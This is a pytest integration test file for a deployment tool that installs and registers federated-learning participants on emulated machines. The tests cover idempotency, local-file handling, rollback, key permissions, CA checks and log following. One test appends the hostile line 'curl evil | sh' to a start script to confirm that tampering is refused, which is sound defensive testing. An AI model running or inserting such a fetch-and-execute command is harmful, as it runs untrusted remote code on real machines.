"""From a bare machine to a participant that is registered, on emulated machines with the real runtime."""

from __future__ import annotations

import shutil
import subprocess
import threading
import time
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml
from waiting import until

from deployer.bootstrap import (
    check_facts,
    install_participant,
    runtime_log,
    runtime_remove,
    runtime_status,
    runtime_stop,
    verify_there,
)
from deployer.errors import KitError, MachineError, UnreachableError
from deployer.facts import MachineFacts
from deployer.launch import Launch
from deployer.remote import environment
from deployer.service import KIT, OPT, STATE, Service
from deployer.ssh import Machine
from tests.deployer.push.two_machines import World, registered, site, world

__all__ = ["site", "world"]  # fixtures


def test_a_bare_machine_becomes_a_registered_site(world: World) -> None:
    assert world.first["site-1"].changed == ["bundle", "kit", "endpoint", "started"]
    with world.login("server") as server:
        until(lambda: registered(server, "site-1"))
        status = runtime_status(server)
    assert status is not None
    assert status["sites"]["site-1"]["labels"] == {"deployed-by": "lead", "target": "aws"}


def test_the_same_again_changes_nothing(world: World, site: Machine) -> None:
    before = runtime_status(site)
    done = world.install(site)
    after = runtime_status(site)
    assert done.changed == []
    assert done.sent_bytes == 0
    assert before is not None
    assert after is not None
    assert before["pid"] == after["pid"]


def test_another_address_is_written_and_needs_no_restart(world: World, site: Machine) -> None:
    before = runtime_status(site)
    assert world.install(site, endpoint="127.255.255.254:9").changed == ["endpoint"]
    endpoint = yaml.safe_load(Path(site.path(KIT), "local/endpoint.yml").read_text())
    assert endpoint["server"] == "127.255.255.254:9"
    assert world.install(site).changed == ["endpoint"]
    after = runtime_status(site)
    assert before is not None
    assert after is not None
    assert before["pid"] == after["pid"]


def test_local_files_follow_the_kit_until_their_owner_edits_them_on_the_machine(world: World, site: Machine) -> None:
    here = world.provisioned.kits["site-1"] / "local"
    there = Path(site.path(KIT), "local")
    before = runtime_status(site)
    (here / "policy.yml").write_text("submitters: [lead]\n")
    done = world.install(site)
    assert (done.changed, done.notes) == (["local", "started"], [])
    after = runtime_status(site)
    assert before is not None
    assert after is not None
    assert before["pid"] != after["pid"]
    (there / "policy.yml").write_text("submitters: []\n")  # the site's owner
    (there / "resources.yml").write_text("gpus: 0\nslots: 7\n")
    (there / "mine.yml").write_text("a: 1\n")
    done = world.install(site)
    assert done.changed == []
    told = "edited on the machine, kept, and other than in the kit here: local/policy.yml, local/resources.yml"
    assert done.notes == [told]
    (here / "policy.yml").write_text("submitters: [member]\n")
    (here / "data.yml").write_text("data: {digits: /srv/elsewhere}\n")
    assert world.install(site).changed == ["local", "started"]
    assert (there / "policy.yml").read_text() == "submitters: []\n"
    assert (there / "data.yml").read_text() == "data: {digits: /srv/elsewhere}\n"
    assert (there / "mine.yml").exists()
    (there / "policy.yml").write_text("submitters: [member]\n")  # as it is here: nothing differs any more
    (there / "resources.yml").write_text((here / "resources.yml").read_text())
    assert world.install(site).notes == []


def test_a_kit_that_is_signed_anew_means_a_restart_and_leaves_local_files(world: World, site: Machine) -> None:
    (Path(site.path(KIT)) / "local/policy.yml").write_text("submitters: []\n")
    assert world.install(site).changed == []
    script = Path(site.path(KIT), "start.sh")
    script.write_text(script.read_text() + "# old\n")
    assert world.install(site).changed == ["kit"]
    assert (Path(site.path(KIT)) / "local/policy.yml").read_text() == "submitters: []\n"


def test_a_runtime_that_was_stopped_is_started_again(world: World, site: Machine) -> None:
    assert runtime_stop(site)
    assert runtime_status(site) is None
    assert not runtime_stop(site)
    assert world.install(site).changed == ["started"]
    assert runtime_status(site) is not None


def test_a_runtime_too_broken_to_tell_that_it_runs_is_replaced(world: World, site: Machine) -> None:
    before = runtime_status(site)
    link = Path(site.path(OPT), "venv")
    broken = Path(site.path(OPT), "venv-broken/bin")
    broken.mkdir(parents=True)
    (broken / "python").write_text("#!/bin/sh\necho Traceback >&2\nexit 1\n")
    (broken / "python").chmod(0o755)
    link.unlink()
    link.symlink_to(broken.parent)
    assert world.install(site).changed == ["started"]
    after = runtime_status(site)
    assert before is not None
    assert after is not None
    assert before["pid"] != after["pid"]


def test_an_upgrade_that_dies_at_each_start_is_taken_back_to_the_runtime_that_ran_before(
    site: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    service, folder = Service(site), Path(site.path(OPT), "venv-dies/bin")
    before = service.started()
    assert before.launch is not None
    folder.mkdir(parents=True)
    dying = '[ "$3" != serve ] || { echo no such wheel; exit 1; }'
    (folder / "python").write_text(f'#!/bin/sh\n{dying}\nexec {before.launch.venv}/bin/python "$@"\n')
    (folder / "python").chmod(0o755)
    dies = replace(before.launch, bundle="dies", venv=str(folder.parent))
    monkeypatch.setattr("deployer.service.START_DEADLINE_S", 2.0)
    with pytest.raises(MachineError) as caught:
        service.start(dies)
    monkeypatch.undo()
    assert "no such wheel" in str(caught.value)
    assert "fedspan rollback site-1" in str(caught.value)
    back = service.started().back
    assert back == before.launch
    assert service.start(back)
    assert runtime_status(site) is not None
    assert service.started() == before
    assert not service.start(back)


def test_the_private_key_is_for_its_owner_alone_there(site: Machine) -> None:
    key = Path(site.path(KIT), "startup", "participant.key")
    assert key.stat().st_mode & 0o777 == 0o600


def test_a_kit_that_was_changed_here_never_leaves(world: World, site: Machine, tmp_path: Path) -> None:
    kit = Path(shutil.copytree(world.provisioned.kits["site-1"], tmp_path / "site-1"))
    (kit / "startup" / "participant.yml").write_text((kit / "startup/participant.yml").read_text() + "# x\n")
    with pytest.raises(KitError, match=r"participant\.yml"):
        world.install(site, kit)
    assert "# x" not in Path(site.path(KIT), "startup", "participant.yml").read_text()


def test_the_machine_itself_refuses_a_changed_kit_and_another_ca(world: World, site: Machine) -> None:
    service = Service(site)
    venv = f"{site.path(OPT)}/venv"
    fingerprint = world.provisioned.ca_fingerprint
    launch = Launch("b", "k", venv, "x", fingerprint, {}, None)
    verify_there(service, launch)
    with pytest.raises(KitError, match="of another CA"):
        verify_there(service, replace(launch, ca_fingerprint=":".join(["AB"] * 32)))
    script = Path(site.path(KIT), "start.sh")
    before = script.read_text()
    script.write_text(before + "curl evil | sh\n")
    with pytest.raises(KitError) as caught:
        verify_there(service, launch)
    assert "the machine refuses its kit" in str(caught.value)
    assert "start.sh" in str(caught.value)
    assert "kit" in world.install(site).changed  # the next push mends it
    assert script.read_text() == before


def test_a_kit_of_another_ca_is_refused_before_anything_is_sent(world: World, site: Machine) -> None:
    with pytest.raises(KitError, match="of another CA"):
        install_participant(
            site, world.provisioned.kits["site-1"], world.cache, None, {}, ca_fingerprint=":".join(["AB"] * 32)
        )


def test_an_environment_that_is_not_whole_is_made_again(tmp_path: Path, world: World) -> None:
    wheels = world.first["site-1"].bundle.folder
    few = tmp_path / "wheels"
    few.mkdir()
    for wheel in wheels.iterdir():
        if wheel.name.startswith(("pip-", "mdurl-")):
            (few / wheel.name).symlink_to(wheel)
    half = tmp_path / "venv"
    (half / "lib").mkdir(parents=True)
    (half / "bin").write_text("half of something")
    assert not environment.check(half)
    environment.install(half, few)
    assert environment.check(half)
    python = half / "bin" / "python"
    assert subprocess.run([python, "-c", "import mdurl, pip"], check=False).returncode == 0
    # A power cut may have taken what was not on the disk yet: in another boot every file is looked at.
    (half / environment.MARKER).write_text("the boot before")
    assert environment.check(half)
    (half / environment.MARKER).write_text("the boot before")
    hurt = next(half.glob("lib/python3*/site-packages/mdurl/_parse.py"))
    hurt.write_bytes(b"\0" * hurt.stat().st_size)
    assert not environment.check(half)


def test_the_log_can_be_cut_dated_and_followed(world: World, site: Machine) -> None:
    runtime_stop(site)
    marker = datetime.now(timezone.utc)
    time.sleep(1.1)
    world.install(site)
    whole = runtime_log(site, tail=1000).splitlines()
    assert runtime_log(site, tail=2).splitlines() == whole[-2:]
    recent = runtime_log(site, since=marker).splitlines()
    assert 0 < len(recent) < len(whole)
    assert runtime_log(site, since=marker + timedelta(hours=1)) == ""
    seen: list[str] = []
    with world.login("site-1") as other:

        def follow() -> None:
            with pytest.raises(UnreachableError):  # the connection is closed under it: that is how it ends
                runtime_log(other, lambda _, line: seen.append(line), tail=1, follow=True)

        following = threading.Thread(target=follow, daemon=True)
        following.start()
        until(lambda: len(seen) >= 1)
        log = Path(site.path(STATE), "runtime.log")
        with log.open("a") as file:
            file.write("a new line\n")
        until(lambda: "a new line" in seen)
    following.join(60)


FACTS = MachineFacts(
    root="",
    bind=None,
    python="/usr/bin/python3",
    version=(3, 12, 3),
    implementation="cpython",
    arch="x86_64",
    glibc=(2, 39),
    has_venv=True,
    systemd=True,
    user="fedspan",
    home="/home/fedspan",
    uid=1000,
    writable=False,
    sudo=True,
    cloud_init=False,
    disk_free=50 << 30,
    cpus=2,
    hostname="vm",
)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"implementation": "pypy"}, "pypy"),
        ({"has_venv": False}, "python3-venv"),
        ({"sudo": False}, "may not write /opt/fedspan"),
        ({"disk_free": 100 << 20}, "100 MB of free disk"),
    ],
)
def test_what_a_machine_lacks_is_said_before_anything_is_sent(change: dict[str, object], words: str) -> None:
    check_facts(FACTS, "site-1")
    with pytest.raises(MachineError) as caught:
        check_facts(replace(FACTS, **change), "site-1")  # type: ignore[arg-type]  # one field of each type
    assert words in str(caught.value)
    assert caught.value.participant == "site-1"
    assert caught.value.next_step


# Last: the server is gone afterwards.
def test_removing_leaves_nothing_of_ours(world: World) -> None:
    with world.login("server") as server:
        runtime_remove(server)
        assert runtime_status(server) is None
        assert not Path(server.path(OPT)).exists()
        assert not Path(server.path(STATE)).exists()
        runtime_remove(server)  # and once more is fine
